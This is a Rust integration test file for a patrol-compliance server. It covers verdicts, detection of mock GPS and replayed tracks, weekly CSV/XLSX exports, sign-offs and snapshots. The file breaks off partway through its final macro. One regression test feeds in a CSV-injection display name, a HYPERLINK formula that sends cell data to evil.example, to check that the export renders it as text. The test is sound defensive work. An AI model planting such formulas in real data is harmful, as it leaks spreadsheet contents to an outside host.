//! Patrol verdicts against the real server: judged by the compliance worker as patrols sync,
//! under the jurisdiction's rules for that week, visible to those who may see the patrol, and the
//! same after `recompute-compliance`.

use std::sync::Arc;
use std::sync::atomic::{AtomicI64, Ordering};

use diesel::prelude::*;
use gridpatrol_sdk::clock::{Clock, SystemClock};
use gridpatrol_sdk::store::MemoryStore;
use gridpatrol_sdk::{Client, Datum, FixInput, Method, Options, PhotoOptions};
use gridpatrol_server::schema::patrol_verdicts;
use gridpatrol_tests::{Backend, TestApp, both_backends};
use serde_json::Value;

const VILLAGE: &str = "522632100001";
const INSPECTOR: &str = "inspector-522632100001-1";
const LEADER: &str = "leader-522632100";

/// The phone's clock, moved by the test as the patrol goes on.
#[derive(Default)]
struct TestClock(AtomicI64);

impl Clock for TestClock {
    fn now_ms(&self) -> i64 {
        self.0.load(Ordering::Relaxed)
    }
    fn monotonic_ms(&self) -> i64 {
        self.0.load(Ordering::Relaxed)
    }
}

async fn inspector(app: &TestApp, dir: &tempfile::TempDir) -> (Client, Arc<TestClock>) {
    inspector_as(app, dir, INSPECTOR).await
}

async fn inspector_as(
    app: &TestApp,
    dir: &tempfile::TempDir,
    username: &str,
) -> (Client, Arc<TestClock>) {
    let clock = Arc::new(TestClock(AtomicI64::new(SystemClock::default().now_ms())));
    let phone = Client::open_with(
        Arc::new(MemoryStore::new()),
        &app.base,
        Options {
            clock: clock.clone(),
            photos: PhotoOptions {
                dir: Some(dir.path().join("photos")),
                ..PhotoOptions::default()
            },
            ..Options::default()
        },
    )
    .expect("open");
    let leader = app.token(LEADER).await;
    let code = app
        .enrollment_code(&leader, app.user_id(username).await)
        .await;
    phone.enroll(&code, "红米 Note 12").await.expect("enroll");
    (phone, clock)
}

/// A patrol started 45 minutes ago on the phone's clock, in the village: its id, a point inside
/// the village to walk around, and the start.
async fn begin(app: &TestApp, phone: &Client, clock: &TestClock) -> (String, (f64, f64), i64) {
    let admin = app.token("admin-522632").await;
    let village = app.grid_id(VILLAGE).await;
    let detail = app.get(&format!("/v1/grids/{village}"), Some(&admin)).await;
    let inside = crate::sdk::inside(&detail.body["geometry"]);
    let start = SystemClock::default().now_ms() - 45 * 60_000;
    clock.0.store(start, Ordering::Relaxed);
    let id = phone.start_patrol(VILLAGE, Method::Routine).expect("start");
    (id, inside, start)
}

/// A 40-minute patrol walking to and fro around a point inside the village, a fix a minute, with
/// one photo; `mock` marks the fixes as coming from a fake-GPS app.
async fn record(
    app: &TestApp,
    (phone, clock): &(Client, Arc<TestClock>),
    dir: &tempfile::TempDir,
    mock: bool,
) -> String {
    let (id, (lon, lat), start) = begin(app, phone, clock).await;
    for minute in 0..=40 {
        clock.0.store(start + minute * 60_000, Ordering::Relaxed);
        let step = (minute % 10) as f64 - 5.0;
        phone
            .add_fix(
                &id,
                FixInput {
                    at_ms: start + minute * 60_000,
                    lon: lon + 0.0002 * step,
                    lat: lat + 0.0001 * ((minute / 10) as f64 - 2.0),
                    datum: Datum::Wgs84,
                    accuracy_m: Some(10.0),
                    mock,
                },
            )
            .expect("fix");
    }
    let camera = dir.path().join(format!("IMG_{id}.jpg"));
    // A photo of this patrol's own (the same file in two patrols is `photo_reused`).
    let seed = id.bytes().fold(mock as u64 + 31, |a, b| {
        a.wrapping_mul(31).wrapping_add(u64::from(b))
    });
    std::fs::write(&camera, crate::photos::jpeg(seed, 320, 240)).expect("camera");
    phone.attach_photo(&id, &camera, "河道").expect("photo");
    clock.0.store(start + 40 * 60_000, Ordering::Relaxed);
    phone.submit(&id).expect("submit");
    let report = phone.sync().await.expect("sync");
    assert_eq!(report.photos_uploaded, 1);
    id
}

/// The week's record as CSV, as `token` downloads it.
async fn csv_export(app: &TestApp, token: &str, week: &str) -> String {
    app.client
        .get(format!(
            "{}/v1/compliance/weeks/{week}/export?format=csv",
            app.base
        ))
        .bearer_auth(token)
        .send()
        .await
        .expect("csv")
        .text()
        .await
        .expect("text")
}

/// Asks for a verdict until the worker has made it.
async fn verdict(app: &TestApp, token: &str, patrol: &str) -> Value {
    for _ in 0..400 {
        let reply = app
            .get(&format!("/v1/patrols/{patrol}/verdict"), Some(token))
            .await;
        if reply.status == 200 {
            return reply.body;
        }
        assert_eq!(reply.body["error"], "verdict_pending", "{}", reply.text);
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("no verdict for {patrol}");
}

fn reason<'a>(verdict: &'a Value, code: &str) -> &'a Value {
    verdict["reasons"]
        .as_array()
        .expect("reasons")
        .iter()
        .find(|r| r["code"] == code)
        .unwrap_or_else(|| panic!("no {code} in {verdict}"))
}

async fn patrols_are_judged_as_they_sync_and_again_the_same(backend: Backend) {
    let app = TestApp::with_demo(backend).await;
    let dir = tempfile::tempdir().expect("tmp");
    let phone = inspector(&app, &dir).await;
    let leader = app.token(LEADER).await;

    let honest = record(&app, &phone, &dir, false).await;
    let judged = verdict(&app, &leader, &honest).await;
    assert_eq!(judged["counted"], true, "{judged}");
    assert_eq!(judged["rules"], "policy", "榕江's rules for this week");
    assert!(judged["week"].as_str().expect("week").contains("-W"));
    assert_eq!(reason(&judged, "inside_share")["value"], 1.0);
    assert_eq!(
        reason(&judged, "duration")["message"],
        "巡查时长 40 分钟（要求 ≥ 20 分钟）"
    );
    assert_eq!(reason(&judged, "photos")["value"], 1.0);
    assert_eq!(judged["flags"], serde_json::json!([]));

    let mocked = record(&app, &phone, &dir, true).await;
    let judged = verdict(&app, &leader, &mocked).await;
    assert_eq!(judged["counted"], false, "{judged}");
    assert_eq!(judged["flags"][0]["signal"], "mock_location");
    assert_eq!(judged["flags"][0]["hard"], true);

    // The week's flagged patrols: the mocked one, hard.
    let week = judged["week"].as_str().expect("week").to_string();
    let flags = app
        .get(
            &format!("/v1/compliance/weeks/{week}/flags?grid=522632100"),
            Some(&leader),
        )
        .await;
    assert_eq!(flags.status, 200, "{}", flags.text);
    let list = flags.body.as_array().expect("list");
    assert_eq!(list.len(), 1, "{list:?}");
    assert_eq!(list[0]["patrol_id"], mocked.as_str());
    assert_eq!(list[0]["counted"], false);
    assert_eq!(list[0]["flags"][0]["signal"], "mock_location");
    assert_eq!(list[0]["grid"]["code"], VILLAGE);

    // Another township's leader may not see it, nor learn that it exists.
    let stranger = app.token("leader-522632101").await;
    let refused = app
        .get(&format!("/v1/patrols/{honest}/verdict"), Some(&stranger))
        .await;
    assert_eq!(
        (refused.status, refused.body["error"].as_str()),
        (404, Some("patrol_not_found"))
    );
    let unknown = app.get("/v1/patrols/nope/verdict", Some(&leader)).await;
    assert_eq!(unknown.status, 404);

    // Recomputed from scratch (every document loaded from the change store, where the worker
    // judged the views its syncs left): the very same verdicts.
    let before = stored(&app).await;
    recompute(&app).await;
    assert_eq!(stored(&app).await, before);
}

/// `recompute-compliance`'s function, and a wait until every verdict is current (the background
/// worker may have taken some of the patrols).
async fn recompute(app: &TestApp) {
    let state = app.state.clone();
    gridpatrol_server::compliance::judging::recompute_all(&state)
        .await
        .expect("recompute");
    for _ in 0..400 {
        let behind: i64 = app
            .with_conn(|conn| {
                patrol_verdicts::table
                    .filter(patrol_verdicts::judged_version.lt(patrol_verdicts::version))
                    .count()
                    .get_result(conn)
            })
            .await;
        if behind == 0 {
            return;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("verdicts still behind after the recompute");
}

/// The week's record for the township: the village with an honest patrol is short (one of its
/// three inspectors patrolled), the others have none; the mocked patrol is listed with its reason.
async fn the_weekly_record_counts_patrols_against_the_duty(backend: Backend) {
    let app = TestApp::with_demo(backend).await;
    // A key point (重点监控点位) where the patrols walk.
    crate::sdk::import_quarry(&app).await;
    let dir = tempfile::tempdir().expect("tmp");
    let phone = inspector(&app, &dir).await;
    let leader = app.token(LEADER).await;
    let honest = record(&app, &phone, &dir, false).await;
    let mocked = record(&app, &phone, &dir, true).await;
    let judged = verdict(&app, &leader, &honest).await;
    verdict(&app, &leader, &mocked).await;
    let week = judged["week"].as_str().expect("week").to_string();

    let reply = app
        .get(&format!("/v1/compliance/weeks/{week}"), Some(&leader))
        .await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    let record = &reply.body;
    assert_eq!(
        record["grid"]["code"], "522632100",
        "the leader's township by default"
    );
    assert_eq!(record["timezone"], "Asia/Shanghai");
    // 榕江: "网格员每周巡查原则上不少于1次"; the record is due "每周三上午12：00前".
    assert_eq!(record["required_per_inspector"], 1);
    assert!(
        record["duty_quote"]
            .as_str()
            .expect("quote")
            .contains("每周巡查原则上不少于1次")
    );
    let deadline = record["deadline"].as_str().expect("deadline");
    assert!(deadline.ends_with("T12:00:00+08:00"), "{deadline}");
    let villages = record["townships"][0]["villages"]
        .as_array()
        .expect("villages");
    let mine = villages
        .iter()
        .find(|v| v["grid"]["code"] == VILLAGE)
        .expect("the village");
    assert_eq!(mine["status"], "short", "{mine}");
    assert_eq!(
        (
            mine["rollup"]["patrols"].as_u64(),
            mine["rollup"]["counted"].as_u64()
        ),
        (Some(2), Some(1))
    );
    let me = mine["inspectors"]
        .as_array()
        .expect("inspectors")
        .iter()
        .find(|p| p["username"] == INSPECTOR)
        .expect("me");
    assert_eq!(
        (me["counted"].as_u64(), me["met"].as_bool()),
        (Some(1), Some(true))
    );
    assert_eq!(mine["not_counted"][0]["patrol_id"], mocked.as_str());
    assert!(
        mine["not_counted"][0]["reasons"][0]
            .as_str()
            .expect("reason")
            .contains("模拟定位"),
        "{mine}"
    );
    assert!(
        villages
            .iter()
            .filter(|v| v["grid"]["code"] != VILLAGE)
            .all(|v| v["status"] == "none")
    );
    let summary = &record["summary"];
    assert_eq!(summary["villages"].as_u64(), Some(villages.len() as u64));
    assert_eq!(summary["villages_met"], 0);
    assert_eq!(summary["completion_rate"], 0.0);

    // The same record as files: XLSX read back cell by cell, CSV with a BOM.
    let xlsx = app
        .client
        .get(format!(
            "{}/v1/compliance/weeks/{week}/export?format=xlsx",
            app.base
        ))
        .bearer_auth(&leader)
        .send()
        .await
        .expect("xlsx");
    assert_eq!(xlsx.status().as_u16(), 200);
    let disposition = xlsx.headers()["content-disposition"]
        .to_str()
        .expect("ascii")
        .to_string();
    assert!(
        disposition.contains(&format!("gridpatrol_522632100_{week}.xlsx")),
        "{disposition}"
    );
    assert!(disposition.contains("filename*=UTF-8''"), "{disposition}");
    let bytes = xlsx.bytes().await.expect("bytes");
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).expect("an XLSX");
    let township = record["townships"][0]["grid"]["name"]
        .as_str()
        .expect("name")
        .to_string();
    assert_eq!(
        book.sheet_names(),
        vec!["汇总".to_string(), township.clone()]
    );
    let summary = book.worksheet_range("汇总").expect("summary");
    let cell = |range: &calamine::Range<calamine::Data>, row: u32, col: u32| {
        range
            .get_value((row, col))
            .map(|v| v.to_string())
            .unwrap_or_default()
    };
    assert!(
        cell(&summary, 0, 0).contains(&week),
        "{}",
        cell(&summary, 0, 0)
    );
    assert_eq!(cell(&summary, 2, 6), "完成率");
    assert_eq!(cell(&summary, 3, 0), "522632100");
    assert_eq!(cell(&summary, 3, 2), villages.len().to_string());
    assert_eq!(cell(&summary, 3, 3), "0", "no village met its duty");
    let sheet = book.worksheet_range(&township).expect("township sheet");
    assert_eq!(cell(&sheet, 0, 1), "网格编码");
    assert_eq!(cell(&sheet, 0, 7), "有效巡查次数");
    let mine = (1..sheet.height() as u32)
        .find(|&r| cell(&sheet, r, 4).contains(INSPECTOR))
        .expect("my row");
    assert_eq!(cell(&sheet, mine, 1), VILLAGE);
    assert_eq!(cell(&sheet, mine, 3), "不足");
    assert_eq!(cell(&sheet, mine, 7), "1");
    assert_eq!(cell(&sheet, mine, 8), "是");
    assert!(cell(&sheet, mine, 9).contains(&mocked) && cell(&sheet, mine, 9).contains("模拟定位"));
    assert_eq!(cell(&sheet, 0, 11), "重点点位（本月巡查/要求）");
    // The honest patrol came to the key point; it counts this month unless it started in the
    // month before the one that holds most of the week (a week like 30 November to 6 December
    // is December's, and a patrol on Monday 30 November is November's).
    let week_starts: chrono::NaiveDate = record["starts"]
        .as_str()
        .expect("starts")
        .parse()
        .expect("a date");
    let thursday = week_starts + chrono::Days::new(3);
    let honest_id = honest.clone();
    let started_utc: chrono::NaiveDateTime = app
        .with_conn(move |conn| {
            use gridpatrol_server::schema::patrols;
            patrols::table
                .find(honest_id)
                .select(patrols::started_at)
                .first(conn)
        })
        .await;
    let started = started_utc
        .and_utc()
        .with_timezone(&chrono::FixedOffset::east_opt(8 * 3600).expect("+08:00"))
        .date_naive();
    use chrono::Datelike;
    let this_month =
        u32::from((started.year(), started.month()) == (thursday.year(), thursday.month()));
    assert_eq!(cell(&sheet, mine, 11), format!("村口砂石场 {this_month}/2"));
    let csv = csv_export(&app, &leader, &week).await;
    assert!(
        csv.starts_with("\u{feff}乡镇,网格编码,网格名称"),
        "{}",
        &csv[..60.min(csv.len())]
    );
    assert!(
        csv.lines()
            .any(|l| l.contains(VILLAGE) && l.contains(INSPECTOR))
    );
    let unknown = app
        .get(
            &format!("/v1/compliance/weeks/{week}/export?format=pdf"),
            Some(&leader),
        )
        .await;
    assert_eq!(
        (unknown.status, unknown.body["error"].as_str()),
        (400, Some("unknown_format"))
    );

    // Bad input: a week that is not one, a grid outside the caller's subtree.
    let bad = app.get("/v1/compliance/weeks/2026-48", Some(&leader)).await;
    assert_eq!(
        (bad.status, bad.body["error"].as_str()),
        (400, Some("invalid_week"))
    );
    let outside = app
        .get(
            &format!("/v1/compliance/weeks/{week}?grid=522632101"),
            Some(&leader),
        )
        .await;
    assert_eq!(
        (outside.status, outside.body["error"].as_str()),
        (403, Some("outside_subtree"))
    );
    // The county admin sees every township.
    let admin = app.token("admin-522632").await;
    let county = app
        .get(&format!("/v1/compliance/weeks/{week}"), Some(&admin))
        .await;
    assert_eq!(county.body["grid"]["code"], "522632");
    assert!(
        county.body["townships"]
            .as_array()
            .expect("townships")
            .len()
            > 1
    );
}

/// The township leader signs the week off: the record is frozen with a content hash, a patrol
/// that syncs afterwards appears beside it as a late amendment, and only a county admin may
/// reopen it, with a reason that the history keeps.
async fn a_signed_week_is_frozen_and_late_patrols_are_amendments(backend: Backend) {
    let app = TestApp::with_demo(backend).await;
    let dir = tempfile::tempdir().expect("tmp");
    let phone = inspector(&app, &dir).await;
    let leader = app.token(LEADER).await;
    let first = record(&app, &phone, &dir, false).await;
    let week = verdict(&app, &leader, &first).await["week"]
        .as_str()
        .expect("week")
        .to_string();
    let url = format!("/v1/compliance/weeks/{week}?grid=522632100");

    // An inspector may not sign; the leader may, once.
    // (Inspectors have no password: a phone's token.)
    let inspector_token = gridpatrol_tests::phone::Phone::enroll(&app, &leader, INSPECTOR)
        .await
        .token;
    let refused = app
        .post(
            &format!("/v1/compliance/weeks/{week}/signoff?grid=522632100"),
            Some(&inspector_token),
            &serde_json::json!({}),
        )
        .await;
    assert_eq!(refused.status, 403, "{}", refused.text);
    let signed = app
        .post(
            &format!("/v1/compliance/weeks/{week}/signoff?grid=522632100"),
            Some(&leader),
            &serde_json::json!({}),
        )
        .await;
    assert_eq!(signed.status, 200, "{}", signed.text);
    let signoff = &signed.body["signoff"];
    assert_eq!(
        signoff["late"], false,
        "the deadline is next Wednesday 12:00"
    );
    let hash = signoff["content_hash"].as_str().expect("hash").to_string();
    assert_eq!(hash.len(), 64);
    let again = app
        .post(
            &format!("/v1/compliance/weeks/{week}/signoff?grid=522632100"),
            Some(&leader),
            &serde_json::json!({}),
        )
        .await;
    assert_eq!(
        (again.status, again.body["error"].as_str()),
        (409, Some("already_signed"))
    );

    // A patrol of the same week syncs after the sign-off: listed, not counted into the figures.
    let late = record(&app, &phone, &dir, false).await;
    verdict(&app, &leader, &late).await;
    let shown = app.get(&url, Some(&leader)).await.body;
    assert_eq!(shown["signoff"]["content_hash"], hash.as_str());
    assert_eq!(
        shown["summary"], signed.body["summary"],
        "the signed figures stay"
    );
    assert_eq!(shown["late_amendments"][0]["patrol_id"], late.as_str());
    assert_eq!(shown["late_amendments"][0]["counted"], true);

    // The county's view of the week shows the township as it signed it, not as it is now: the
    // late patrol is an amendment there too, and the county's sums are the signed ones.
    let admin = app.token("admin-522632").await;
    let county = app
        .get(
            &format!("/v1/compliance/weeks/{week}?grid=522632"),
            Some(&admin),
        )
        .await;
    assert_eq!(county.status, 200, "{}", county.text);
    let township = county.body["townships"]
        .as_array()
        .expect("townships")
        .iter()
        .find(|t| t["grid"]["code"] == "522632100")
        .expect("the township");
    assert_eq!(township["signoff"]["content_hash"], hash.as_str());
    assert_eq!(township["rollup"], signed.body["summary"]);
    assert_eq!(county.body["summary"]["counted"], 1, "{}", county.text);
    assert_eq!(
        county.body["late_amendments"][0]["patrol_id"],
        late.as_str()
    );
    assert!(
        county.body.get("signoff").is_none(),
        "the county itself is not signed"
    );

    // Reopening: not the leader; the county admin, with a reason.
    let no = app
        .post(
            &format!("/v1/compliance/weeks/{week}/reopen?grid=522632100"),
            Some(&leader),
            &serde_json::json!({"reason": "补录"}),
        )
        .await;
    assert_eq!(no.status, 403);
    let empty = app
        .post(
            &format!("/v1/compliance/weeks/{week}/reopen?grid=522632100"),
            Some(&admin),
            &serde_json::json!({"reason": " "}),
        )
        .await;
    assert_eq!(
        (empty.status, empty.body["error"].as_str()),
        (422, Some("reason_required"))
    );
    let reopened = app
        .post(
            &format!("/v1/compliance/weeks/{week}/reopen?grid=522632100"),
            Some(&admin),
            &serde_json::json!({"reason": "补录迟到的巡查"}),
        )
        .await;
    assert_eq!(reopened.status, 200, "{}", reopened.text);
    assert!(reopened.body.get("signoff").is_none());
    assert_eq!(
        reopened.body["summary"]["counted"], 2,
        "the live record counts the late patrol"
    );
    let history = reopened.body["history"].as_array().expect("history");
    assert_eq!(history.len(), 2);
    assert_eq!(
        (history[0]["action"].as_str(), history[1]["action"].as_str()),
        (Some("signed"), Some("reopened"))
    );
    assert_eq!(history[1]["reason"], "补录迟到的巡查");
    assert_eq!(history[1]["content_hash"], hash.as_str());

    // A week whose deadline has passed is signed late, and says so.
    let past = app
        .post(
            "/v1/compliance/weeks/2026-W40/signoff?grid=522632100",
            Some(&leader),
            &serde_json::json!({}),
        )
        .await;
    assert_eq!(past.status, 200, "{}", past.text);
    assert_eq!(past.body["signoff"]["late"], true);
}

/// A malformed policy file in the data directory stops the server from starting, naming the file
/// and the line.
#[tokio::test]
async fn a_malformed_policy_file_stops_the_start_naming_its_line() {
    let db = gridpatrol_tests::fresh_database(Backend::Sqlite);
    let dir = db.dir.path().join("policies");
    std::fs::create_dir_all(&dir).expect("dir");
    std::fs::write(
        dir.join("rongjiang.toml"),
        "jurisdiction_code = \"522632\"\nname = \"榕江县\"\ntimezone = \"Asia/Shanghai\"\n\n[[compliance]]\nfrom_week = \"2026-W60\"\n",
    )
    .expect("write");
    let config =
        gridpatrol_server::Config::for_database(db.dir.path().to_path_buf(), db.url.clone());
    let error = gridpatrol_server::build_state(&config, &gridpatrol_tests::serve_config(), true)
        .await
        .err()
        .expect("refused to start")
        .to_string();
    assert!(
        error.contains("rongjiang.toml") && error.contains("line 6"),
        "{error}"
    );
}

/// A patrol synced while it is still being walked is judged from the view its sync left, and its
/// snapshot is written once syncs pause; judged again from the store
/// (`recompute-compliance`), it gets the same verdict. The changes that sync later are loaded on
/// top of the snapshot, and the verdict counts them: the stored form always loads as the whole
/// change log does.
async fn a_patrol_synced_in_parts_is_judged_whole_from_its_snapshot(backend: Backend) {
    use gridpatrol_server::schema::{sync_changes, sync_snapshots};
    use gridpatrol_server::sync::stored::{self, SNAPSHOT_AFTER};

    let app = TestApp::with_demo(backend).await;
    let dir = tempfile::tempdir().expect("tmp");
    let (phone, clock) = inspector(&app, &dir).await;
    let leader = app.token(LEADER).await;
    let (id, (lon, lat), start) = begin(&app, &phone, &clock).await;
    let walk = |minutes: std::ops::RangeInclusive<i64>| {
        for minute in minutes {
            clock.0.store(start + minute * 60_000, Ordering::Relaxed);
            let fix = FixInput {
                at_ms: start + minute * 60_000,
                lon: lon + 0.0002 * ((minute % 10) as f64 - 5.0),
                lat,
                datum: Datum::Wgs84,
                accuracy_m: Some(10.0),
                mock: false,
            };
            phone.add_fix(&id, fix).expect("fix");
        }
    };
    // Where the log and the snapshot stand for the patrol: (newest entry, snapshot's entry).
    let positions = || {
        let id = id.clone();
        app.with_conn(move |conn| {
            let newest: Option<i64> = sync_changes::table
                .filter(sync_changes::doc_id.eq(&id))
                .select(diesel::dsl::max(sync_changes::seq))
                .first(conn)?;
            let snapshot: Option<i64> = sync_snapshots::table
                .find(&id)
                .select(sync_snapshots::through_seq)
                .first(conn)
                .optional()?;
            Ok((newest, snapshot))
        })
    };

    // The first quarter of an hour syncs; the patrol is still being recorded.
    walk(0..=15);
    phone.sync().await.expect("sync");
    let first = verdict(&app, &leader, &id).await;
    assert_eq!(first["counted"], false, "{first}");
    // Judged from the view its sync left, the patrol owes its snapshot (16 changes since none),
    // written once syncs have paused for a moment.
    let caught_up = || async {
        for _ in 0..200 {
            let (newest, snapshot) = positions().await;
            if snapshot.is_some() && snapshot == newest {
                return newest;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
        panic!("no snapshot of the newest change: {:?}", positions().await);
    };
    let newest = caught_up().await;
    let metrics = app
        .get("/metrics", Some(gridpatrol_tests::METRICS_TOKEN))
        .await
        .text;
    assert!(
        metrics.contains("gridpatrol_patrols_judged_total{from=\"view\"} 1"),
        "judged from the sync's view, not loaded: {metrics}"
    );
    assert!(metrics.contains("gridpatrol_snapshots_owed 0"), "{metrics}");
    // Judged again from the store (`recompute-compliance` loads every patrol): the same verdict.
    recompute(&app).await;
    let again = verdict(&app, &leader, &id).await;
    for part in ["counted", "reasons", "flags", "key_points", "week", "rules"] {
        assert_eq!(again[part], first[part], "{part}: {again} vs {first}");
    }

    // The rest of the walk, a photo, and the submission sync later.
    walk(16..=40);
    let camera = dir.path().join("IMG_parts.jpg");
    std::fs::write(&camera, crate::photos::jpeg(41, 320, 240)).expect("camera");
    phone.attach_photo(&id, &camera, "河道").expect("photo");
    phone.submit(&id).expect("submit");
    phone.sync().await.expect("sync");
    let since: i64 = {
        let id = id.clone();
        let after = newest.expect("logged");
        app.with_conn(move |conn| {
            sync_changes::table
                .filter(sync_changes::doc_id.eq(&id))
                .filter(sync_changes::seq.gt(after))
                .select(diesel::dsl::sum(sync_changes::change_count))
                .first::<Option<i64>>(conn)
                .map(Option::unwrap_or_default)
        })
        .await
    };
    let tail = {
        let id = id.clone();
        app.state
            .db
            .run(move |conn| stored::load_one(conn, &id))
            .await
            .expect("stored")
            .tail_changes()
    };
    // Unless the worker was quicker than this read (a quiet moment, then compaction), the
    // snapshot still stands where it was and the tail is every change since.
    assert!(since >= SNAPSHOT_AFTER as i64, "{since} changes synced");
    assert!(tail == 0 || tail as i64 == since, "tail {tail} of {since}");
    let whole = verdict(&app, &leader, &id).await;
    assert_eq!(whole["counted"], true, "{whole}");
    assert_eq!(
        reason(&whole, "duration")["message"],
        "巡查时长 40 分钟（要求 ≥ 20 分钟）",
        "the fixes after the snapshot count"
    );
    assert_eq!(reason(&whole, "photos")["value"], 1.0);

    // The stored form (snapshot and tail) is the document the whole log replays to.
    caught_up().await;
    let (from_snapshot, from_log, tail) = {
        let id = id.clone();
        app.state
            .db
            .run(move |conn| {
                let stored = stored::load_one(conn, &id)?;
                let tail = stored.tail_changes();
                let doc = stored.load().expect("stored form");
                let (changes, _) = gridpatrol_server::sync::load_changes(conn, &id)?;
                let log = sync_protocol::server::load_stored(changes).expect("log");
                Ok::<_, gridpatrol_server::error::ApiError>((doc, log, tail))
            })
            .await
            .expect("load")
    };
    assert!(
        tail < SNAPSHOT_AFTER,
        "compacted again after the second judging"
    );
    assert_eq!(from_snapshot.get_heads(), from_log.get_heads());
    let read = |doc| sync_protocol::schema::read_patrol(doc).expect("patrol");
    let (a, b) = (read(&from_snapshot), read(&from_log));
    assert_eq!(a.track.len(), 41);
    assert_eq!(
        (a.track.len(), a.photos.len(), a.status.as_str()),
        (b.track.len(), b.photos.len(), b.status.as_str())
    );
    assert_eq!(
        from_snapshot.get_changes(&[]).len(),
        from_log.get_changes(&[]).len(),
        "the snapshot keeps the history the sync feed sends from"
    );
}

/// Every stored verdict, in patrol order.
async fn stored(app: &TestApp) -> Vec<(String, bool, Option<String>)> {
    app.with_conn(|conn| {
        patrol_verdicts::table
            .order(patrol_verdicts::patrol_id.asc())
            .select((
                patrol_verdicts::patrol_id,
                patrol_verdicts::counted,
                patrol_verdicts::verdict,
            ))
            .load(conn)
    })
    .await
}

/// Issue 23: a replayed track (an earlier patrol's fixes, shifted in time) counted with no flag,
/// and a byte-identical photo in a later patrol was never flagged. Another inspector's phone
/// replays the first patrol's track a day earlier, with the first patrol's photo file: both
/// hard, each naming the earlier patrol whole, its inspector and day; the original counts.
async fn a_replayed_track_and_a_reused_photo_do_not_count(backend: Backend) {
    let app = TestApp::with_demo(backend).await;
    let leader = app.token(LEADER).await;
    let (dir_a, dir_b) = (
        tempfile::tempdir().expect("tmp"),
        tempfile::tempdir().expect("tmp"),
    );
    let first = inspector_as(&app, &dir_a, INSPECTOR).await;
    let second = inspector_as(&app, &dir_b, "inspector-522632100001-2").await;
    // 40 minutes, a fix every 10 s, walking to and fro along 500 m of the village at ~1.2 m/s.
    let (original, (lon, lat), start) = begin(&app, &first.0, &first.1).await;
    let mut fixes = Vec::new();
    for k in 0..240i64 {
        let along = (k * 12) % 1000;
        let x = if along < 500 { along } else { 1000 - along } as f64 - 250.0;
        let wobble = ((k * 7919) % 11) as f64 - 5.0;
        fixes.push(FixInput {
            at_ms: start + k * 10_000 + (k * 37) % 700,
            lon: lon + (x + wobble) / 100_000.0,
            lat: lat + (((k as f64) / 9.0).sin() * 30.0 + wobble) / 111_000.0,
            datum: Datum::Wgs84,
            accuracy_m: Some(6.0),
            mock: false,
        });
    }
    for fix in &fixes {
        first.1.0.store(fix.at_ms, Ordering::Relaxed);
        first.0.add_fix(&original, *fix).expect("fix");
    }
    let camera = dir_a.path().join("IMG_original.jpg");
    std::fs::write(&camera, crate::photos::jpeg(4242, 320, 240)).expect("camera");
    first
        .0
        .attach_photo(&original, &camera, "河道")
        .expect("photo");
    first.0.submit(&original).expect("submit");
    first.0.sync().await.expect("sync");
    let first_verdict = verdict(&app, &leader, &original).await;
    assert!(
        !first_verdict["flags"]
            .to_string()
            .contains("replayed_track"),
        "{first_verdict}"
    );

    // The copy: the same fixes a day earlier, each moved a few metres, the same photo file.
    let day = 86_400_000;
    second.1.0.store(start - day, Ordering::Relaxed);
    let copy = second
        .0
        .start_patrol(VILLAGE, Method::Routine)
        .expect("start");
    for (k, fix) in fixes.iter().enumerate() {
        let jitter = ((k * 31) % 9) as f64 - 4.0;
        let moved = FixInput {
            at_ms: fix.at_ms - day,
            lon: fix.lon + jitter / 100_000.0,
            lat: fix.lat - jitter / 111_000.0,
            ..*fix
        };
        second.1.0.store(moved.at_ms, Ordering::Relaxed);
        second.0.add_fix(&copy, moved).expect("fix");
    }
    let reused = dir_b.path().join("IMG_copy.jpg");
    std::fs::copy(&camera, &reused).expect("copy");
    second
        .0
        .attach_photo(&copy, &reused, "河道")
        .expect("photo");
    second.0.submit(&copy).expect("submit");
    second.0.sync().await.expect("sync");
    let judged = verdict(&app, &leader, &copy).await;
    assert_eq!(judged["counted"], false, "{judged}");
    let flags = judged["flags"].as_array().expect("flags");
    let flag = |signal: &str| {
        flags
            .iter()
            .find(|f| f["signal"] == signal)
            .unwrap_or_else(|| panic!("no {signal} in {judged}"))
    };
    let replayed = flag("replayed_track");
    assert_eq!(replayed["hard"], true);
    assert_eq!(replayed["evidence"]["earlier"]["patrol"], original.as_str());
    assert!(
        replayed["evidence"]["matched"].as_u64().expect("matched") >= 200,
        "{replayed}"
    );
    let message = replayed["message"].as_str().expect("message");
    assert!(
        message.contains(&original) && message.contains("逐点重合"),
        "{message}"
    );
    let photo = flag("photo_reused");
    assert_eq!(photo["hard"], true);
    assert_eq!(photo["evidence"]["earlier"]["patrol"], original.as_str());
    assert_eq!(photo["evidence"]["earlier"]["identical"], true);
    // Judged again from scratch, the same.
    let state = app.state.clone();
    gridpatrol_server::compliance::judging::recompute_all(&state)
        .await
        .expect("recompute");
    assert_eq!(
        verdict(&app, &leader, &copy).await["flags"],
        judged["flags"]
    );
    assert!(
        !verdict(&app, &leader, &original).await["flags"]
            .to_string()
            .contains("replayed_track")
    );
}

/// Issue 22, finding 5: a display name that is a spreadsheet formula landed in the CSV export as
/// a formula (the XLSX was safe). Through real HTTP: the cell comes out as text.
async fn a_formula_in_a_name_is_text_in_the_csv(backend: Backend) {
    let app = TestApp::with_demo(backend).await;
    let leader = app.token(LEADER).await;
    let village = app.grid_id(VILLAGE).await;
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    let created = app
        .post(
            "/v1/users",
            Some(&leader),
            &serde_json::json!({"username": "formula", "display_name": name,
                    "roles": [{"grid_id": village, "role": "inspector"}]}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.text);
    let week = chrono::Utc::now().format("%G-W%V").to_string();
    let csv = csv_export(&app, &leader, &week).await;
    // The inspector's cell is "<display name>（<user name>）", quoted for its commas and quotes.
    let quoted = format!(",\"'{}（formula）\",", name.replace('"', "\"\""));
    assert!(csv.contains(&quoted), "{csv}");
    assert!(
        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
        "{csv}"
    );
}

both_backends!(
    a_formula_in_a_name_is_text_in_the_csv,
    a_replayed_track_and_a_reused_photo_do_not_count,
    patrols_are_judged_as_they_sync_and_again_the_same,
